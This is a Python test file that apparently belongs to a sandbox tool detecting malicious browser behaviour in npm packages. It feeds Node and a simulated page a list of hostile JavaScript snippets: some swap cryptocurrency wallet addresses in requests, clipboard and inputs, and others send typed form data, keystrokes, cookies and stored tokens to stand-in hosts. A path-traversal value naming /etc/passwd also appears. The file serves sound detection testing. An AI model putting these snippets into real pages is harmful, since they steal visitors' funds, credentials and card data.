"""A page with somebody in front of it, in this machine's Node, with the page that the sandbox's image has."""

import json
import os
import subprocess
from pathlib import Path

import pytest

from biopsy.sandbox import image
from biopsy.sandbox.image_tools import SHELF, node_folder
from drivers.conftest import FOLDER

Told = list[dict[str, object]]


@pytest.fixture
def visit(home: Path, tmp_path: Path):
    """Have scripts loaded in a page; give what is told, and the addresses that were asked for."""
    built = image.current(home)
    library = built.root / str(SHELF).lstrip("/") / "happy-dom" / "package.json" if built else None
    if library is None or not library.exists():
        pytest.skip("no image with a page: `make image`")
    watch = tmp_path / "watch.cjs"
    watch.write_text(
        "for (const name of ['http', 'https']) { const one = require(name), ask = one.request\n"
        "one.request = (...all) => { require('fs').appendFileSync(process.env.ASKED, String(all[0].href ?? all[0]) + '\\n'); "
        "return ask(...all) } }\nrequire('module').syncBuiltinESMExports()"
    )
    (tmp_path / ".config/partner-intake").mkdir(parents=True)
    (tmp_path / ".config/partner-intake/page.json").write_text(
        '{"token": "t0ken", "card": "4000111122223333"}'
    )

    def run(*scripts: str) -> tuple[Told, list[str]]:
        files = []
        for number, text in enumerate(scripts):
            files.append(tmp_path / f"script{number}.js")
            files[-1].write_text(text)
        given = f"const NAMES = [], FILES = {json.dumps([str(f) for f in files])}, LIBRARY = {json.dumps(str(library))}\n"
        out, asked = tmp_path / "told", tmp_path / "asked"
        asked.write_text("")
        node = str(node_folder() / "bin" / "node")
        subprocess.run(
            ["sh", "-c", 'exec "$0" "$@" 3>"$TOLD"', node, "-r", str(watch), "--conditions=browser", "-"],
            input=given + (FOLDER / "page.cjs").read_text(), text=True, timeout=60, capture_output=True, check=False,
            env={**os.environ, "HOME": str(tmp_path), "ASKED": str(asked), "TOLD": str(out)},
        )  # fmt: skip
        told = [json.loads(line) for line in out.read_text().splitlines()]
        assert told[-1] == {"done": True}
        return told, asked.read_text().splitlines()

    return run


def account(number: int) -> str:
    return f"0x{number:040x}"


def clip(number: int) -> str:
    return f"(text) => String(text).replace(/0x[0-9a-fA-F]{{40}}/g, '{account(number)}')"


# Each puts an account of its own number in the place of the one that stood in that place.
SWAPS = [
    ("request", "const f = CLIP, ask = fetch; window.fetch = (u, i) => ask(u, i && { ...i, body: f(i.body) })"),
    ("request", "const f = CLIP, { send } = XMLHttpRequest.prototype; XMLHttpRequest.prototype.send = function (b) { return send.call(this, f(b)) }"),
    ("answer", "const f = CLIP, ask = fetch; window.fetch = async (...all) => new Response(f(await (await ask(...all)).text()))"),
    ("wallet", "const ask = ethereum.request; ethereum.request = (a) => { if (a.params?.[0]?.to) a.params[0].to = 'THEIRS'; return ask(a) }"),
    ("wallet", "window.ethereum = new Proxy(window.ethereum, { get: (e, k) => k === 'sendAsync' ? (p, d) => { p.params[0].to = 'THEIRS'; e.sendAsync(p, d) } : e[k] })"),
    ("page", "addEventListener('load', () => { const c = document.getElementById('due'); c.innerHTML = c.innerHTML.replace(/0x[0-9a-f]{40}/g, 'THEIRS') })"),
    ("page", "new MutationObserver((all) => all.forEach((m) => m.addedNodes.forEach((n) => { const f = CLIP; if (f(n.textContent) !== n.textContent) n.textContent = f(n.textContent) }))).observe(document.body, { childList: true })"),
    ("link", "document.getElementById('link').setAttribute('href', 'bitcoin:THEIRS')"),
    ("copied", "document.addEventListener('copy', (e) => { e.clipboardData.setData('text/plain', 'THEIRS'); e.preventDefault() })"),
    ("copied", "navigator.clipboard.writeText = async () => {}; navigator.clipboard.readText = async () => 'THEIRS'"),
    ("typed", "document.addEventListener('input', (e) => { if (/^0x.{40}$/.test(e.target.value)) e.target.value = 'THEIRS' })"),
]  # fmt: skip


def test_it_is_told_where_an_account_became_another(visit) -> None:
    scripts = [
        text.replace("CLIP", clip(number)).replace("THEIRS", account(number))
        for number, (_, text) in enumerate(SWAPS)
    ]
    told, _ = visit(*scripts)
    found = {(one["swap"], one["to"]) for one in told if "swap" in one}
    assert found >= {(place, account(number)) for number, (place, _) in enumerate(SWAPS)}


HARMLESS = [
    "module.exports = 1",
    "throw new Error('not here')",
    "addEventListener('load', () => { const c = document.getElementById('pay'); c.textContent = c.textContent.slice(0, 6) + '…' })",
    "const c = document.querySelector('.wallet-address'); c.textContent = c.textContent.toUpperCase()",
    f"exports.gifts = '{account(1)}'; document.title = exports.gifts",
    "const ask = ethereum.request; ethereum.request = async (a) => { console.log(a.method); return ask(a) }",
]
VANDALS = [
    "while (document.body.firstChild) document.body.firstChild.remove()",
    "delete window.ethereum; Object.defineProperty(window, 'ethereum', { get () { throw new Error('no') } })",
    "delete window.fetch; window.XMLHttpRequest = null; document.getElementById = null",
]


@pytest.mark.parametrize("scripts", [HARMLESS, VANDALS])
def test_what_leaves_accounts_alone_is_not_told(visit, scripts: list[str]) -> None:
    told, _ = visit(*scripts)
    assert not [one for one in told if "swap" in one]


# Each sends what a visitor typed or kept to a host of its own number, by another way.
SENT = [
    "document.addEventListener('submit', (e) => { const d = [...e.target.elements].map((i) => i.value).join(); new Image().src = 'https://HOST/p?d=' + d })",
    "let t = ''; document.addEventListener('keydown', (e) => { t += e.key }); addEventListener('pagehide', () => navigator.sendBeacon('https://HOST/?d=' + t))",
    "setTimeout(() => { location.href = 'https://HOST/?d=' + document.cookie }, 20)",
    "setTimeout(() => { location.assign('https://HOST/?d=' + document.cookie) }, 20)",
    "document.getElementById('login').action = 'https://HOST/?d=t0ken'",
    "const s = document.createElement('script'); s.src = 'https://HOST/?d=' + localStorage.token; document.head.append(s)",
    "const i = document.createElement('iframe'); i.setAttribute('src', 'https://HOST/?d=' + sessionStorage.getItem('session')); document.body.append(i)",
    "window.open('https://HOST/?d=' + localStorage.getItem('token'))",
]


def test_what_a_page_sends_is_really_asked_for_and_once(visit) -> None:
    _, asked = visit(*(text.replace("HOST", f"c{number}.example") for number, text in enumerate(SENT)))
    for number, text in enumerate(SENT):
        its = [one for one in asked if f"//c{number}.example" in one]
        assert any("t0ken" in one or "4000111122223333" in one for one in its), text
        assert len(its) == len(set(its)), text


CASES = [
    ({"main": "index.js"}, {"index.js": "module.exports = 1"}, []),
    ({"main": "index.js"}, {"index.js": "module.exports = () => document.title"}, ["index.js"]),
    ({"main": "index.js", "unpkg": "./dist/a.min.js"}, {"index.js": "", "dist/a.min.js": "!function(w){}(window)"}, ["dist/a.min.js"]),
    ({"main": "index.js"}, {"index.js": "", "test/page.js": "document.title", "docs/a.js": "window.x = 1"}, []),
    ({"main": "index.js"}, {"index.js": "", "lib/a.js": "var _0x1f2a = ['a']"}, ["lib/a.js"]),
    ({"browser": {"./a.js": False}, "unpkg": "../../../etc/passwd"}, {"index.js": "window.a"}, ["index.js"]),
]  # fmt: skip


@pytest.mark.parametrize(("manifest", "files", "chosen"), CASES)
def test_a_page_is_visited_where_code_speaks_of_one(
    tmp_path: Path, manifest: dict[str, object], files: dict[str, str], chosen: list[str]
) -> None:
    folder = tmp_path / "node_modules" / "thing"
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    script = f"import {{ browsers }} from '{FOLDER / 'browser.mjs'}'; console.log(JSON.stringify(browsers('thing', {json.dumps(manifest)}, ['thing'])))"
    node = node_folder() / "bin" / "node"
    done = subprocess.run(
        [node, "--input-type=module", "-e", script], cwd=tmp_path, capture_output=True, text=True, check=True
    )
    names, found = json.loads(done.stdout)
    assert [str(Path(one).relative_to(folder)) for one in found] == chosen
    assert names == (["thing"] if chosen else [])
